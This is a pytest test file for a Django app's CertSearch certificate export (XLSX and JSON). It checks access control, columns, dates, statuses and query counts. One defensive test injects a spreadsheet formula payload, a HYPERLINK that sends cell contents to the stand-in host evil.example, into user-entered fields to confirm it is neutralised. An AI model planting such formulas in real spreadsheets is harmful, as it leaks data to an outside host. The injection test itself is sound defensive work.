"""The IAF CertSearch export: CertSearch's template (sheets, columns), statuses and dates, for staff only."""

import datetime
import io
import json

import pytest
from django.apps import apps
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from certificates.certsearch import (
    CERTIFICATION_COLUMNS,
    CERTIFIED_ENTITY_COLUMNS,
    SITE_COLUMNS,
    certsearch_records,
)
from certificates.models import Certificate
from certificates.services import certificate_suspend, certificate_withdraw
from tests.conftest import CAST_NAMES, ROOT
from tests.factories import copy_certificate

XLSX_URL = "/certificates/export.xlsx"
JSON_URL = "/certificates/export.json"
SUMMARY_URL = "/certificates/certsearch/"
SHEETS = ["Certified Entity", "Certification", "Certification Sites"]


def _workbook(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _sheet(response, name: str) -> list[dict]:
    """The sheet's rows as {column name: value}."""
    rows = list(_workbook(response)[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _rows(response):
    """The Certification sheet's rows."""
    return _sheet(response, "Certification")


def _ymd(day: datetime.date) -> str:
    return day.strftime("%Y%m%d")


@pytest.mark.parametrize("url", [XLSX_URL, JSON_URL, SUMMARY_URL])
def test_it_lets_only_staff_export(url, cast, certificate, login):
    got = {}
    for name in CAST_NAMES:
        response = login(cast.user(name)).get(url)
        got[name] = response.status_code
        if name == "anonymous":
            assert response["Location"].startswith("/login/")
    assert got == {"anonymous": 302, "staff": 200, "lead": 403, "auditor": 403, "client": 403, "other": 403}


def test_it_gives_staff_the_certificate_permissions(cast):
    assert cast.staff.has_perm("certificates.view_certificate")
    assert cast.staff.has_perm("certificates.add_decision")
    assert not cast.lead.has_perm("certificates.view_certificate")
    assert not cast.client.has_perm("certificates.view_certificate")


@pytest.mark.parametrize("url", [XLSX_URL, JSON_URL, SUMMARY_URL])
def test_it_refuses_a_post(url, cast, login):
    assert login(cast.staff).post(url).status_code == 405


def test_it_writes_the_templates_sheets_and_columns_in_order(cast, certificate, login):
    response = login(cast.staff).get(XLSX_URL)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    today = _ymd(timezone.localdate())
    assert response["Content-Disposition"] == f'attachment; filename="certsearch-{today}.xlsx"'
    workbook = _workbook(response)
    assert workbook.sheetnames == SHEETS
    headers = {name: [cell.value for cell in workbook[name][1]] for name in SHEETS}
    assert headers == {
        "Certified Entity": [
            "Certified Entity Unique ID",
            "Certified Entity Name",
            "Certified Entity Trading Name",
            "Certified Entity English Name",
            "Certified Entity Street",
            "Certified Entity City",
            "Certified Entity State",
            "Certified Entity Zipcode/Postcode",
            "Certified Entity Country/Economy",
        ],
        "Certification": [
            "Certification Identity Number",
            "Certified Entity Unique ID",
            "Certificate Number",
            "Certification Status",
            "Accreditation Status",
            "Certification Type",
            "Certification Standards",
            "Certification Scope",
            "Certification Original Issue Date",
            "Certification Issue Date",
            "Certification Expiry Date",
        ],
        "Certification Sites": [
            "Certification Identity Number",
            "Site Street",
            "Site City",
            "Site State",
            "Site Zipcode/Postcode",
            "Site Country/Economy",
            "Site Scope",
        ],
    }
    assert [c.name for c in CERTIFIED_ENTITY_COLUMNS] == headers["Certified Entity"]
    assert [c.name for c in CERTIFICATION_COLUMNS] == headers["Certification"]
    assert [c.name for c in SITE_COLUMNS] == headers["Certification Sites"]


def test_it_exports_one_value_per_cell_with_yyyymmdd_dates(cast, certificate, login):
    response = login(cast.staff).get(XLSX_URL)
    (entity,) = _sheet(response, "Certified Entity")
    organization = cast.org_a
    assert entity == {
        "Certified Entity Unique ID": organization.org_number,
        "Certified Entity Name": "Nordkontakt AB",
        "Certified Entity Trading Name": None,
        "Certified Entity English Name": None,
        "Certified Entity Street": organization.address,
        "Certified Entity City": organization.city,
        "Certified Entity State": None,
        "Certified Entity Zipcode/Postcode": organization.postal_code or None,
        "Certified Entity Country/Economy": "Sweden",
    }
    (row,) = _rows(response)
    assert row == {
        "Certification Identity Number": str(certificate.identity),
        "Certified Entity Unique ID": organization.org_number,
        "Certificate Number": certificate.number,
        "Certification Status": "Active",
        "Accreditation Status": "Unaccredited",
        "Certification Type": "Management System",
        "Certification Standards": cast.standard.code,
        "Certification Scope": "Inbound customer service by telephone, e-mail and chat.",
        "Certification Original Issue Date": _ymd(certificate.original_issue_date),
        "Certification Issue Date": _ymd(certificate.issue_date),
        "Certification Expiry Date": _ymd(certificate.expiry_date),
    }
    # Dates are eight-digit text, as the template wants them, never a spreadsheet date.
    assert isinstance(row["Certification Expiry Date"], str) and len(row["Certification Expiry Date"]) == 8
    sites = _sheet(response, "Certification Sites")
    assert [site["Site City"] for site in sites] == ["Stockholm", "Göteborg", "Malmö"]
    stockholm = certificate.sites.select_related("site").get(name="Stockholm")
    assert sites[0] == {
        "Certification Identity Number": str(certificate.identity),
        "Site Street": stockholm.address or None,
        "Site City": "Stockholm",
        "Site State": None,
        "Site Zipcode/Postcode": stockholm.site.postal_code or None,
        "Site Country/Economy": "Sweden",
        "Site Scope": stockholm.scope or None,
    }


def test_it_reports_accredited_from_the_scheme(cast, certificate, login):
    scheme = cast.standard.scheme
    scheme.accredited, scheme.accreditation_body, scheme.accreditation_number = True, "Swedac", "10203"
    scheme.save()
    client = login(cast.staff)
    assert _rows(client.get(XLSX_URL))[0]["Accreditation Status"] == "Accredited"
    assert (
        json.loads(client.get(JSON_URL).content)["certifications"][0]["accreditation_status"] == "Accredited"
    )


def test_it_writes_one_certification_row_per_standard(cast, certificate, login):
    from tests.factories import StandardFactory

    certificate.standards.add(StandardFactory(code="ISO 9001:2015", title="Quality management"))
    rows = _rows(login(cast.staff).get(XLSX_URL))
    assert [row["Certification Standards"] for row in rows] == ["ISO 18295-1:2017", "ISO 9001:2015"]
    assert {row["Certification Identity Number"] for row in rows} == {str(certificate.identity)}
    # One scheme is not accredited: the certificate as a whole is not.
    assert {row["Accreditation Status"] for row in rows} == {"Unaccredited"}


def test_it_lists_a_row_certsearch_would_reject_before_download(cast, certificate, login):
    type(cast.org_a).objects.filter(pk=cast.org_a.pk).update(address="")
    client = login(cast.staff)
    page = client.get(SUMMARY_URL)
    assert page.status_code == 200
    text = page.content.decode()
    assert "CertSearch would refuse 1 row" in text
    assert "Missing required field: Certified Entity Street" in text
    assert "Nordkontakt AB" in text
    assert 'href="/certificates/export.xlsx"' in text
    # The file still holds the row, empty where the summary said.
    assert _sheet(client.get(XLSX_URL), "Certified Entity")[0]["Certified Entity Street"] is None


def test_it_says_when_nothing_would_be_rejected(cast, certificate, login):
    text = login(cast.staff).get(SUMMARY_URL).content.decode()
    assert "CertSearch should accept the file" in text
    assert "would refuse" not in text


def test_it_links_the_upload_from_the_staff_certificate_list(cast, certificate, login):
    assert 'href="/certificates/certsearch/"' in login(cast.staff).get("/certificates/").content.decode()


def test_it_exports_json_with_nested_sites(cast, certificate, login, settings):
    response = login(cast.staff).get(JSON_URL)
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].endswith('.json"')
    data = json.loads(response.content)
    assert data["certification_body"] == settings.CERTIFICATION_BODY_NAME
    (record,) = data["certifications"]
    assert record == {
        "certification_identity_number": str(certificate.identity),
        "certificate_number": certificate.number,
        "certification_status": "Active",
        "accreditation_status": "Unaccredited",
        "certification_type": "Management System",
        "certification_standards": [cast.standard.code],
        "certification_scope": "Inbound customer service by telephone, e-mail and chat.",
        "certification_original_issue_date": _ymd(certificate.original_issue_date),
        "certification_issue_date": _ymd(certificate.issue_date),
        "certification_expiry_date": _ymd(certificate.expiry_date),
        "certified_entity_name": "Nordkontakt AB",
        "certified_entity_unique_id": cast.org_a.org_number,
        "certified_entity_address": certificate.entity_address,
        "certified_entity_street": cast.org_a.address,
        "certified_entity_city": cast.org_a.city,
        "certified_entity_postal_code": cast.org_a.postal_code,
        "certified_entity_country": "Sweden",
        "certification_sites": [
            {
                "name": site.name,
                "address": site.address,
                "city": site.city,
                "postal_code": site.site.postal_code,
                "country": "Sweden",
                "country_code": "SE",
                "scope": site.scope,
            }
            for site in certificate.sites.select_related("site").order_by("id")
        ],
    }
    # Written as UTF-8, not \u escapes, so staff can read it.
    assert "Göteborg" in response.content.decode("utf-8")


def test_it_uses_certsearch_status_words(cast, certificate, login):
    suspended = copy_certificate(certificate, "CERT-2001-0001")
    certificate_suspend(certificate=suspended, user=cast.staff, reason="No answer")
    withdrawn = copy_certificate(certificate, "CERT-2001-0002")
    certificate_withdraw(certificate=withdrawn, user=cast.staff, reason="Ended")
    today = timezone.localdate()
    long_ago = today - datetime.timedelta(days=1200)
    # Past its expiry but not yet marked by the nightly run: CertSearch must still read Expired.
    copy_certificate(
        certificate,
        "CERT-2001-0003",
        original_issue_date=long_ago,
        issue_date=long_ago,
        expiry_date=today - datetime.timedelta(days=1),
    )
    copy_certificate(certificate, "CERT-2001-0004", status="expired")
    statuses = {
        record["certificate_number"]: record["certification_status"]
        for record in json.loads(login(cast.staff).get(JSON_URL).content)["certifications"]
    }
    assert statuses == {
        certificate.number: "Active",
        "CERT-2001-0001": "Suspended",
        "CERT-2001-0002": "Withdrawn",
        "CERT-2001-0003": "Expired",
        "CERT-2001-0004": "Expired",
    }


def test_it_leaves_confidential_certificates_out(cast, certificate, login):
    copy_certificate(certificate, "CERT-2001-0009", confidential=True)
    client = login(cast.staff)
    assert {row["Certificate Number"] for row in _rows(client.get(XLSX_URL))} == {certificate.number}
    numbers = [r["certificate_number"] for r in json.loads(client.get(JSON_URL).content)["certifications"]]
    assert numbers == [certificate.number]


def test_it_writes_no_site_rows_for_a_certificate_without_sites(cast, certificate, login):
    copy_certificate(certificate, "CERT-2001-0005", with_sites=False)
    response = login(cast.staff).get(XLSX_URL)
    rows = [row for row in _rows(response) if row["Certificate Number"] == "CERT-2001-0005"]
    assert len(rows) == 1
    assert rows[0]["Certification Status"] == "Active"
    identity = rows[0]["Certification Identity Number"]
    assert [
        s for s in _sheet(response, "Certification Sites") if s["Certification Identity Number"] == identity
    ] == []
    # Two certificates of one organisation: one Certified Entity row.
    assert len(_sheet(response, "Certified Entity")) == 1


def test_it_gives_an_organisation_without_a_number_a_stable_id(cast, certificate, login):
    type(cast.org_a).objects.filter(pk=cast.org_a.pk).update(org_number="")
    row = _rows(login(cast.staff).get(XLSX_URL))[0]
    assert row["Certified Entity Unique ID"] == f"CERTDESK-ORG-{cast.org_a.pk}"


def test_it_reads_the_export_in_three_queries(certificate, django_assert_num_queries):
    for n in range(5):
        copy_certificate(certificate, f"CERT-2004-{n:04d}")
    with django_assert_num_queries(3):
        records = certsearch_records(today=timezone.localdate())
    assert len(records) == 6


@pytest.mark.parametrize("url", [XLSX_URL, JSON_URL, SUMMARY_URL])
def test_it_exports_in_a_constant_number_of_queries(url, cast, certificate, login):
    client = login(cast.staff)
    client.get(url)  # warm the session and permission caches
    with CaptureQueriesContext(connection) as few:
        assert client.get(url).status_code == 200
    for n in range(10):
        copy_certificate(certificate, f"CERT-2005-{n:04d}")
    with CaptureQueriesContext(connection) as many:
        assert client.get(url).status_code == 200
    assert len(many.captured_queries) == len(few.captured_queries)


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_it_writes_no_cell_a_spreadsheet_would_run_as_a_formula(start, cast, certificate, login):
    # What a client or staff typed reaches the workbook: scope, entity name and address, each site's.
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    Certificate.objects.filter(pk=certificate.pk).update(scope=formula, entity_name=formula)
    type(cast.org_a).objects.filter(pk=cast.org_a.pk).update(address=formula, city=formula)
    certificate.sites.update(address=formula, city=formula, scope=formula)

    response = login(cast.staff).get(XLSX_URL)
    workbook = _workbook(response)

    cells = [
        *[_rows(response)[0]["Certification Scope"]],
        *[
            _sheet(response, "Certified Entity")[0][c]
            for c in ("Certified Entity Street", "Certified Entity City")
        ],
        *[
            site[c]
            for site in _sheet(response, "Certification Sites")
            for c in ("Site Street", "Site City", "Site Scope")
        ],
    ]
    assert len(cells) == 1 + 2 + 3 * 3
    # Shown as the text that was typed, after an apostrophe that keeps it from running (XML reads
    # a carriage return back as a line feed).
    assert set(cells) == {"'" + formula.replace("\r", "\n")}
    # openpyxl stores no cell of any sheet as a formula.
    kinds = {cell.data_type for sheet in workbook for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "inlineStr"}


def test_it_leaves_ordinary_cells_as_they_are(cast, certificate, login):
    Certificate.objects.filter(pk=certificate.pk).update(scope="Inbound calls - and e-mail = 100 %")
    row = _rows(login(cast.staff).get(XLSX_URL))[0]
    assert row["Certification Scope"] == "Inbound calls - and e-mail = 100 %"


def test_every_csv_is_written_through_the_spreadsheet_writer():
    # One home for the rule: an export that writes CSV with the csv module itself would skip it.
    ours = ["core", "config", *(app.name for app in apps.get_app_configs() if (ROOT / app.name).is_dir())]
    writers = [
        str(path.relative_to(ROOT))
        for app in ours
        for path in (ROOT / app).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["core/spreadsheets.py"]
